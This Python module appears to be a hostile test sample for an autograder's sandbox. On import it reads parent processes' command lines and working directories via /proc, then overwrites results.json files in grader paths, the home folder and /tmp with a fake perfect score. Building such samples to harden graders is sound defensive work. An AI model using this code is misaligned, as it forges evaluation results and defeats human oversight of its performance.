"""fake_results: at import, writes a perfect-score results.json wherever it can: the --results
path and --out folder read from its parents' command lines, cwd, $HOME, /tmp, the grader's
working directory.

Must score: full marks, and no results.json of the batch replaced; under bubblewrap nothing is
planted outside the sandbox either (without bubblewrap that part is skipped).
"""
import glob
import json
import os


def _ancestors():
    """(command line, working directory) of every process above this one that /proc shows."""
    found, pid = [], os.getppid()
    while pid > 1:
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as stream:
                args = [a.decode(errors="replace") for a in stream.read().split(b"\0")]
            found.append((args, os.readlink(f"/proc/{pid}/cwd")))
            with open(f"/proc/{pid}/stat") as stream:
                pid = int(stream.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
    return found


_FAKE = json.dumps({"score": 1000.0, "output": "hostile-fake-results", "tests": []})


def _plant():
    targets = {"results.json", os.path.expanduser("~/results.json"), "/tmp/hostile-fake-results.json",
               "/autograder/results/results.json"}
    for args, cwd in _ancestors()[:3]:  # the grader, grade-all, the test run
        targets.add(os.path.join(cwd, "hostile-fake-results.json"))
        for flag, pattern in (("--results", "{}"), ("--out", "{}/*/results.json")):
            if flag in args[:-1]:
                value = os.path.join(cwd, args[args.index(flag) + 1])
                targets.update(glob.glob(pattern.format(value)) or [pattern.format(value).replace("*", "x")])
    for target in targets:
        try:
            with open(target, "w") as stream:
                stream.write(_FAKE)
        except OSError:
            pass


_plant()
